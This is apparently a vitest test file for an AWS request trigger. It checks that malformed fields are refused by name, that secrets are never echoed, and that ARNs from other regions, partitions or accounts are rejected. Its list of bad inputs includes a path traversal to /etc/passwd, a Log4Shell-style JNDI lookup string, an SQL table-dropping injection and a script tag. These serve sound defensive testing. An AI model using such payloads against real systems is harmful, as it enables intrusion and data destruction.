import { beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { REQUEST_FIELDS, type RequestField } from '../../../lambda/contract/request-fields';
import { BLUEPRINT_ARN, WHOLE } from '../contract/valid-request';
import { WatchedTrigger } from './watched-trigger';

const trigger = new WatchedTrigger();

beforeAll(() => trigger.createStateMachines());
beforeEach(() => trigger.forget());

/** Someone may put a secret itself into these, so only what looks like an ARN is shown. */
const HOLDS_SECRET: readonly RequestField[] = ['databaseSecretIdentifier', 'runSecretArn'];

/** A way to write a field wrongly. */
interface Spoiled {
  readonly kind: string;
  readonly spoil: (valid: string) => unknown;
  /** Fields of free text, which take it. */
  readonly takenBy?: readonly RequestField[];
}

/** A key is any text without control characters; the name of a ruleset also has no blank at its ends. */
const KEY: readonly RequestField[] = ['idempotencyKey'];
const TEXT: readonly RequestField[] = ['idempotencyKey', 'ruleset'];

const SPOILED: readonly Spoiled[] = [
  { kind: 'a number', spoil: () => 42 },
  { kind: 'a number that text could be', spoil: () => 111122223333 },
  { kind: 'true', spoil: () => true },
  { kind: 'null', spoil: () => null },
  { kind: 'a list of it', spoil: (valid) => [valid] },
  { kind: 'an object around it', spoil: (valid) => ({ value: valid }) },
  { kind: 'an operator of a database', spoil: () => ({ $ne: null }) },
  { kind: 'nothing', spoil: () => '' },
  { kind: 'blanks', spoil: () => '   ' },
  { kind: 'ten thousand characters', spoil: (valid) => valid + 'x'.repeat(10_000) },
  { kind: 'a blank before', spoil: (valid) => ` ${valid}`, takenBy: KEY },
  { kind: 'a blank behind', spoil: (valid) => `${valid} `, takenBy: KEY },
  { kind: 'a newline behind', spoil: (valid) => `${valid}\n` },
  { kind: 'a line of a log inside', spoil: (valid) => `${valid}\r\n{"level":"ERROR"}` },
  { kind: 'a tab', spoil: (valid) => `${valid}\t` },
  { kind: 'a NUL', spoil: (valid) => `${valid}\u0000` },
  { kind: 'a DEL', spoil: (valid) => `${valid}\u007f` },
  { kind: 'a sequence of a terminal', spoil: (valid) => `\u001b[2J${valid}` },
  { kind: 'the same in one character', spoil: (valid) => `\u009b2J${valid}` },
  { kind: 'half of a surrogate pair', spoil: (valid) => `${valid}\ud83d` },
  { kind: 'a Cyrillic look-alike', spoil: (valid) => valid.replace(/[aeo]/, 'о'), takenBy: TEXT },
  { kind: 'wide digits', spoil: (valid) => valid.replace(/\d/, '１'), takenBy: TEXT },
  { kind: 'a combining accent', spoil: (valid) => `${valid}\u0301`, takenBy: TEXT },
  { kind: 'a character of no width', spoil: (valid) => `${valid}\u200b`, takenBy: TEXT },
  { kind: 'a turn of the writing direction', spoil: (valid) => `\u202e${valid}`, takenBy: TEXT },
  { kind: 'a line separator', spoil: (valid) => `${valid}\u2028`, takenBy: KEY },
  { kind: 'an emoji', spoil: (valid) => `${valid}🔑`, takenBy: TEXT },
  { kind: 'a path out', spoil: () => '../../etc/passwd', takenBy: TEXT },
  { kind: 'a template of a logger', spoil: () => '$' + '{jndi:ldap://example.com/x}', takenBy: TEXT },
  { kind: 'SQL', spoil: () => "orders'; DROP TABLE orders; --", takenBy: TEXT },
  { kind: 'markup', spoil: () => '<script>alert(1)</script>', takenBy: TEXT },
  { kind: 'a name of Object.prototype', spoil: () => '__proto__', takenBy: TEXT },
  {
    kind: 'an ARN of another service',
    spoil: () => 'arn:aws:s3:us-east-1:111122223333:orders',
    takenBy: TEXT,
  },
  { kind: 'an ARN without a place', spoil: () => 'arn:aws:rds:::db:orders', takenBy: TEXT },
  {
    kind: 'an ARN of another cloud',
    spoil: () => 'arn:azure:rds:us-east-1:111122223333:db:orders',
    takenBy: TEXT,
  },
];

const CASES = REQUEST_FIELDS.flatMap((field) =>
  SPOILED.filter(({ takenBy = [] }) => !takenBy.includes(field)).map(({ kind, spoil }) => ({
    field,
    kind,
    value: spoil(WHOLE[field] ?? ''),
  })),
);

/** What a message may show of a value: its kind, or its beginning with all that is unseen in escapes. */
function mayShow(field: RequestField, value: unknown): RegExp {
  const isSecret = HOLDS_SECRET.includes(field);
  const looksLikeArn = typeof value === 'string' && value.startsWith('arn:aws:secretsmanager:');
  if (isSecret && !looksLikeArn) return /got: .+ \(not shown\); /;
  if (typeof value === 'string') return /got: ".{0,360}"; /u;
  return value !== null && typeof value === 'object'
    ? /got: an? (list|object); /
    : /got: (42|111122223333|true|null); /;
}

describe('a field that is wrong is refused by name, with the value and the fix, and nothing starts', () => {
  it.each(CASES)('$field: $kind', async ({ field, value }) => {
    const answer = await trigger.start({ ...WHOLE, [field]: value });
    expect(answer.status).toBe(400);
    expect(answer.body.error).toBe('RequestRefused');
    expect(answer.body.details?.map((fault) => fault.field)).toEqual([field]);
    expect(answer.body.details?.[0]?.message).toMatch(mayShow(field, value));
    expect(answer.body.details?.[0]?.message.length).toBeLessThan(700);
    trigger.expectRefused(answer);
    expect(trigger.logged[0]?.fields).toEqual([field]);
  });

  it('shows of plain text its first 59 characters and no more', async () => {
    const answer = await trigger.start({ ...WHOLE, databaseIdentifier: 'abcdefghij'.repeat(10) });
    expect(answer.body.details?.[0]?.message).toContain(`got: "${'abcdefghij'.repeat(5)}abcdefghi…"; `);
  });

  it.each(['databaseIdentifier', 'databaseSecretIdentifier', 'ruleset', 'stateMachineArn'])(
    '%s: missing',
    async (field) => {
      const answer = await trigger.start({ ...WHOLE, [field]: undefined });
      expect(answer.body.details?.map((fault) => fault.field)).toEqual([field]);
      expect(answer.body.details?.[0]?.message).toMatch(/^is missing[;,] /);
      trigger.expectRefused(answer);
    },
  );
});

describe('a secret put where the ARN of a secret belongs is seen nowhere', () => {
  const SECRETS: readonly unknown[] = [
    'hunter2-hunter2',
    '{"username":"admin","password":"hunter2-hunter2"}',
    'postgres://admin:hunter2-hunter2@orders.example.com/orders',
    '-----BEGIN PRIVATE KEY-----\nhunter2-hunter2',
    'ARN:AWS:SECRETSMANAGER:hunter2-hunter2',
    ' arn:aws:secretsmanager:hunter2-hunter2',
    'arn:aws:rds:us-east-1:111122223333:hunter2-hunter2',
    `arn:aws:secretsmanager:us-east-1:111122223333:secret:orders-AbCdEf hunter2-hunter2`,
    { password: 'hunter2-hunter2' },
    ['hunter2-hunter2'],
    { 'hunter2-hunter2': true },
  ];
  const byField = HOLDS_SECRET.flatMap((field) => SECRETS.map((secret) => ({ field, secret })));

  it.each(byField)('$field: $secret', async ({ field, secret }) => {
    const answer = await trigger.start({ ...WHOLE, [field]: secret });
    expect(answer.body.details?.map((fault) => fault.field)).toEqual([field]);
    trigger.expectRefused(answer, 'hunter2');
  });

  it.each(['RunSecret', 'runSecret', 'run_secret', 'RUNSECRET', 'password', 'dbpassword', 'token'])(
    'nor in a field that there is not: %s',
    async (field) => {
      const answer = await trigger.start({ ...WHOLE, [field]: 'hunter2-hunter2' });
      expect(answer.body.details?.map((fault) => fault.field)).toEqual([field]);
      trigger.expectRefused(answer, 'hunter2');
    },
  );
});

describe('what lies elsewhere is refused', () => {
  const ELSEWHERE: readonly (readonly [RequestField, string])[] = [
    ['stateMachineArn', 'Masking'],
    ['databaseIdentifier', 'db:orders'],
    ['databaseIdentifier', 'cluster:orders'],
    ['databaseSecretIdentifier', 'secret:orders-AbCdEf'],
    ['runSecretArn', 'secret:run-secret-AbCdEf'],
    ['sourceSnapshot', 'snapshot:orders'],
    ['sourceSnapshot', 'cluster-snapshot:orders'],
  ];
  const head = (field: RequestField, partition: string, place: string): string => {
    const services = {
      stateMachineArn: 'states',
      databaseSecretIdentifier: 'secretsmanager',
      runSecretArn: 'secretsmanager',
    };
    const service = Object.hasOwn(services, field) ? services[field as keyof typeof services] : 'rds';
    return `arn:${partition}:${service}:${place}:`;
  };
  const arnOf = (field: RequestField, resource: string, partition: string, place: string): string =>
    `${head(field, partition, place)}${field === 'stateMachineArn' ? `stateMachine:${resource}` : resource}`;

  it.each(ELSEWHERE)('%s %s in a Region of another partition', async (field, resource) => {
    for (const [partition, region] of [
      ['aws', 'cn-north-1'],
      ['aws-cn', 'us-east-1'],
      ['aws-us-gov', 'cn-north-1'],
    ] as const) {
      trigger.forget();
      const value = arnOf(field, resource, partition, `${region}:111122223333`);
      const answer = await trigger.start({ ...WHOLE, [field]: value });
      expect(answer.status).toBe(400);
      expect(answer.body.details?.[0]?.message).toMatch(/^names a Region of another partition, got: "arn:/);
      expect(answer.body.details?.[0]?.field).toBe(field);
      trigger.expectRefused(answer);
    }
  });

  it.each(ELSEWHERE.filter(([field]) => field !== 'stateMachineArn'))(
    '%s %s in another Region, of the same partition and of another',
    async (field, resource) => {
      for (const [partition, region] of [
        ['aws', 'eu-west-1'],
        ['aws-cn', 'cn-north-1'],
      ] as const) {
        trigger.forget();
        const value = arnOf(field, resource, partition, `${region}:111122223333`);
        const answer = await trigger.start({
          ...WHOLE,
          preferredAvailabilityZone: undefined,
          [field]: value,
        });
        expect(answer.body.details?.map((fault) => fault.field)).toEqual([field]);
        expect(answer.body.details?.[0]?.message).toContain(`is in Region ${region} where `);
        trigger.expectRefused(answer);
      }
    },
  );

  it.each(ELSEWHERE.filter(([field]) => field !== 'stateMachineArn' && field !== 'sourceSnapshot'))(
    '%s %s in another account',
    async (field, resource) => {
      const value = arnOf(field, resource, 'aws', 'us-east-1:444455556666');
      const answer = await trigger.start({ ...WHOLE, [field]: value });
      expect(answer.body.details?.map((fault) => fault.field)).toEqual([field]);
      expect(answer.body.details?.[0]?.message).toContain('is in account 444455556666 where ');
      trigger.expectRefused(answer);
    },
  );

  it.each(['us-east-1:444455556666', 'eu-west-1:111122223333'])(
    'a state machine in %s is one that nobody configured',
    async (place) => {
      const answer = await trigger.start({
        ...WHOLE,
        stateMachineArn: arnOf('stateMachineArn', 'Masking', 'aws', place),
      });
      expect(answer.status).toBe(403);
      expect(answer.body.error).toBe('StateMachineNotConfigured');
      expect(answer.body.details?.[0]?.field).toBe('stateMachineArn');
      trigger.expectRefused(answer);
    },
  );

  it('a zone in another Region than the database', async () => {
    const answer = await trigger.start({ ...WHOLE, preferredAvailabilityZone: 'eu-west-1a' });
    expect(answer.body.details?.map((fault) => fault.field)).toEqual(['preferredAvailabilityZone']);
    trigger.expectRefused(answer);
  });
});

describe('the same requests without the fault', () => {
  it('start, so that it is the fault that is refused', async () => {
    expect((await trigger.start({ ...WHOLE, overlap: 'ALLOW' })).status).toBe(201);
    expect(trigger.starts).toBe(1);
  });

  const taken = SPOILED.flatMap(({ kind, takenBy = [], spoil }) =>
    takenBy.map((field) => ({ field, kind, value: spoil(WHOLE[field] ?? '') })),
  );

  it.each(taken)('start with $field of free text: $kind', async ({ field, value }) => {
    expect((await trigger.start({ ...WHOLE, overlap: 'ALLOW', [field]: value })).status).toBe(201);
    expect(trigger.starts).toBe(1);
  });

  it.each(taken.filter(({ field }) => field === 'ruleset'))(
    'do not start a blueprint, which takes rulesets by UUID alone: $kind',
    async ({ value }) => {
      const { sourceSnapshot, ...request } = WHOLE;
      const answer = await trigger.start({ ...request, stateMachineArn: BLUEPRINT_ARN, ruleset: value });
      expect(answer.body.details?.map((fault) => fault.field)).toEqual(['ruleset']);
      trigger.expectRefused(answer);
    },
  );
});
